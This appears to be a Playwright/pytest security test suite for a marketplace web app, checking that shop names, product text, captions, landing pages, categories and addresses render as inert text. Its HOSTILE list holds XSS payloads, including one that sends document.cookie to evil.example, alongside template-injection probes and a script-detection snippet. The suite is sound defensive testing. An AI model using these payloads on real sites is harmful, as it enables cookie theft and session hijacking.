"""Whatever people write stays words wherever it is shown: nothing asks, nothing runs, nothing is fetched for it."""

import re
from collections.abc import Sequence
from html import escape
from typing import Any, Final
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest
from playwright.sync_api import Page as Tab
from playwright.sync_api import expect

from tests.browser.conftest import LEFT_BEHIND, PageTrap
from tests.browser.test_journeys import fill_address
from tests.browser.town import Town, enter, pay_by_card, show, watch
from tests.entrypoints.running.people import Person, newcomer
from tests.entrypoints.running.processes import until
from tests.entrypoints.running.trade import (
    GOOD_CARD,
    Goods,
    Shop,
    choose,
    fresh_key,
    offer,
    order_body,
    pay,
    send_order,
)

WIDE: Final = {"width": 1280, "height": 900}
HOSTILE: Final = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{ 7 * 7 }} ${7*7} 𝒢𝓊𝒾𝓉𝒶𝓇 🎸",
)
OWN_COOKIES: Final = frozenset({"access", "basket", "language", "notice", "session", "theme", "zone"})
ACTIVE: Final = """() => [...document.querySelectorAll('*')].filter((element) =>
  element.matches('main script:not([type]), iframe:not([sandbox]), object, embed')
  || [...element.attributes].some((attribute) => attribute.name.startsWith('on'))
  || /^\\s*javascript:/i.test(element.getAttribute('href') ?? '')
).map((element) => element.outerHTML.slice(0, 200))"""
"""Returns what on a page could act on words."""

pytestmark = pytest.mark.slow


def look(tab: Tab, address: str) -> None:
    """Go there and find nothing that acts, and no cookie that is not ours."""
    tab.goto(address)
    assert tab.evaluate(ACTIVE) == [], address
    assert {cookie.get("name", "") for cookie in tab.context.cookies()} <= OWN_COOKIES


def mails_to(person: Person) -> list[dict[str, Any]]:
    """Return the mails that were written to somebody."""
    found: list[dict[str, Any]] = person.get("/v1/me/mails")["items"]
    return found


def open_hostile_shop(town: Town, name: str) -> Shop:
    """Open a shop of that name, at an address that fits."""
    owner = newcomer(town.running)
    body = {"name": name, "slug": f"shop-{uuid4().hex[:12]}", "country": "DE", "currency": "EUR"}
    seller_id = owner.do("POST", "/v1/sellers", json=body)["seller_id"]
    town.operator.do("POST", f"/v1/sellers/{seller_id}/approval")
    return Shop(owner, seller_id)


def caption(goods: Goods, film: str, lines: Sequence[str]) -> httpx.Response:
    """Give a film these captions, under a name that tries something too."""
    cues = "\n\n".join(f"00:00.000 --> 00:03.900\n{line}" for line in lines)
    return goods.shop.owner.send(
        "PUT",
        f"/v1/videos/{film}/captions/en?label={quote(HOSTILE[1][:60])}",
        content=f"WEBVTT\n\n{cues}\n".encode(),
        headers={"Content-Type": "text/vtt"},
    )


@pytest.fixture(scope="module")
def film_of_mallory(town: Town) -> tuple[Goods, str]:
    """Return goods with a film, both of a shop that tries everything, and the film's captions and their name."""
    goods = offer(open_hostile_shop(town, HOSTILE[0][:80]), "Plain Thing", stock=5)
    film = show(goods, town.clip)
    told = caption(goods, film, [escape(words) for words in HOSTILE])
    assert told.is_success, told.text
    return goods, film


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_only_words(town: Town, page_trap: PageTrap, words: str) -> None:
    page_trap.forgive(*LEFT_BEHIND)
    goods = offer(town.potter, words[:150], stock=5)
    until(lambda: goods.product_id in town.running.client.get("/v1/search?limit=100").text, what="the goods are found")
    tab = page_trap.open(viewport=WIDE, locale="en")

    for path in (f"/products/{goods.product_id}", "/", "/shops/clay-and-co", f"/search?q={words.replace('&', '')}"):
        tab.goto(f"{town.address}{path.replace('#', '')}")
        assert (
            tab.evaluate("document.querySelectorAll('main script:not([type]), main [onerror], main [onload]').length")
            == 0
        )
    tab.goto(f"{town.address}/products/{goods.product_id}")
    expect(tab.locator("h1")).to_contain_text(words[:20])
    tab.locator("main form button.main").first.click()
    expect(tab.locator("#basket-count")).to_have_text("1")
    tab.goto(f"{town.address}/checkout")
    fill_address(tab, "mallory@example.org")
    tab.fill("[name=name]", words[:90])
    tab.locator("main form button.main").click()
    tab.wait_for_url(re.compile(r"/payment$"))
    pay_by_card(tab, GOOD_CARD)
    tab.wait_for_url(re.compile(r"/orders/ord_\w+(\?paid=1)?$"))

    expect(tab.locator("address").first).to_contain_text(words[:20])


@pytest.mark.parametrize("words", HOSTILE)
def test_a_landing_page_is_only_words(
    town: Town, page_trap: PageTrap, film_of_mallory: tuple[Goods, str], words: str
) -> None:
    goods, film = film_of_mallory
    owner, page = goods.shop.owner, f"/v1/sellers/{goods.shop.seller_id}/page"
    shop = owner.get(f"/v1/sellers/{goods.shop.seller_id}")
    tab = page_trap.open(viewport=WIDE, locale="en")
    enter(tab, town.address, owner)

    def written(target: str) -> dict[str, Any]:
        return {
            "headline": words[:120],
            "text": f"{words}\n\n{words}",
            "hero_video": film,
            "products": [goods.product_id],
            "call_to_action": {"label": words[:40], "target": target},
        }

    owner.do("PUT", page, json=written(words))
    look(tab, f"{town.address}/studio/page")
    look(tab, f"{town.address}/studio/page/preview")
    refused = owner.send("POST", f"{page}/publication")
    owner.do("PUT", page, json=written(f"/search?q={quote(words)}"))
    owner.do("POST", f"{page}/publication")
    look(tab, f"{town.address}/shops/{shop['slug']}")
    expect(tab.locator("main")).to_contain_text(words[:40])
    tab.locator("main a[href^='/search?q=']", has_text=words[:40]).first.click()
    tab.wait_for_url(re.compile("/search"))

    assert refused.status_code in {409, 422}
    assert tab.evaluate(ACTIVE) == []


def test_captions_and_their_name_are_only_words(
    town: Town, page_trap: PageTrap, film_of_mallory: tuple[Goods, str]
) -> None:
    goods, film = film_of_mallory
    for words in HOSTILE[:3]:
        assert caption(goods, film, [words]).status_code == 422
    tab = page_trap.open(viewport=WIDE, locale="en")
    look(tab, f"{town.address}/products/{goods.product_id}")
    tab.evaluate("document.querySelector('marketplace-player').setAttribute('lang', 'en')")

    watch(tab, tab.locator("main marketplace-player").first)
    shown = tab.evaluate(
        """() => [...(document.querySelector('marketplace-player').video
           ?? document.querySelector('marketplace-player video')).textTracks]
          .filter((track) => ['captions', 'subtitles'].includes(track.kind))
          .map((track) => { track.mode = 'showing'; return track.label; })"""
    )

    assert shown == [HOSTILE[1][:60]]
    assert tab.evaluate(ACTIVE) == []


@pytest.mark.parametrize("words", HOSTILE)
def test_shops_categories_and_facets_are_only_words(town: Town, page_trap: PageTrap, words: str) -> None:
    shop, slug = open_hostile_shop(town, words[:80]), f"things-{uuid4().hex[:12]}"
    town.operator.do("POST", "/v1/categories", json={"slug": slug, "name": words[:90]})
    goods = offer(shop, f"Facet {slug}", stock=5)
    shop.owner.do("PATCH", f"/v1/products/{goods.product_id}", json={"category": slug, "description": words * 3})
    until(lambda: town.running.client.get(f"/v1/search?category={slug}").json()["hits"], what="the category is found")
    tab = page_trap.open(viewport=WIDE, locale="en")
    page_trap.forgive("400", "422")  # nonsense in the address, and the page that says so
    nonsense = "&".join(f"{name}={quote(words)}" for name in ("category", "seller", "min", "max", "currency", "sort"))

    look(tab, f"{town.address}/search?q={quote(words)}&{nonsense}&cursor={quote(words)}")
    look(tab, f"{town.address}/search?category={slug}")
    tab.locator("fieldset.facet label.tick", has_text=words[:40]).last.click()
    expect(tab.locator(".chips")).to_contain_text(words[:40])
    look(tab, f"{town.address}/categories/{slug}")
    look(tab, f"{town.address}/products/{goods.product_id}")
    expect(tab.locator("main")).to_contain_text(words[:40])
    enter(tab, town.address, town.operator)
    look(tab, f"{town.address}/console/shops/{shop.seller_id}")

    expect(tab.locator("h1")).to_contain_text(words[:40])


def test_addresses_and_parcels_are_only_words(town: Town, page_trap: PageTrap) -> None:
    buyer, goods = newcomer(town.running), offer(town.potter, f"Parcel {uuid4().hex[:8]}", stock=2)
    choose(buyer, goods)
    address = dict(zip(("name", "line1", "line2", "city"), (words[:90] for words in HOSTILE), strict=False))
    body = order_body(buyer) | {"address": address | {"postal_code": HOSTILE[-1][:12], "country": "DE"}}
    answer = send_order(buyer, body, fresh_key())
    assert answer.status_code == 201, answer.text
    placed = buyer.get(f"/v1/orders/{answer.json()['order_id']}")
    pay(buyer, placed)
    path, part = f"/v1/orders/{placed['order_id']}", placed["seller_orders"][0]["seller_order_id"]
    until(lambda: buyer.get(path)["state"] == "confirmed", what="the order is confirmed")
    shipment = {"carrier": HOSTILE[-1][:90], "tracking": HOSTILE[0][:90]}
    town.potter.owner.do("POST", f"/v1/seller-orders/{part}/shipment", json=shipment)
    until(lambda: any(mail["template"] == "shipped" for mail in mails_to(buyer)), what="the buyer is told")
    mails = [mail["mail_id"] for mail in mails_to(buyer)]
    tab = page_trap.open(viewport=WIDE, locale="en")
    page_trap.forgive(*LEFT_BEHIND)

    for person, pages in (
        (buyer, (f"/orders/{placed['order_id']}", *(f"/account/mails/{mail}" for mail in mails))),
        (town.potter.owner, (f"/studio/orders/{part}", "/studio/orders")),
        (
            town.operator,
            (
                f"/console/orders/{placed['order_id']}",
                *(f"/console/mails/{mail}{dress}" for mail in mails for dress in ("", "/html")),
            ),
        ),
    ):
        tab.context.clear_cookies()
        enter(tab, town.address, person)
        for page in pages:
            look(tab, f"{town.address}{page}")

    tab.context.clear_cookies()
    enter(tab, town.address, buyer)
    tab.goto(f"{town.address}/orders/{placed['order_id']}")
    for words in HOSTILE:
        expect(tab.locator("main")).to_contain_text(words[:40])
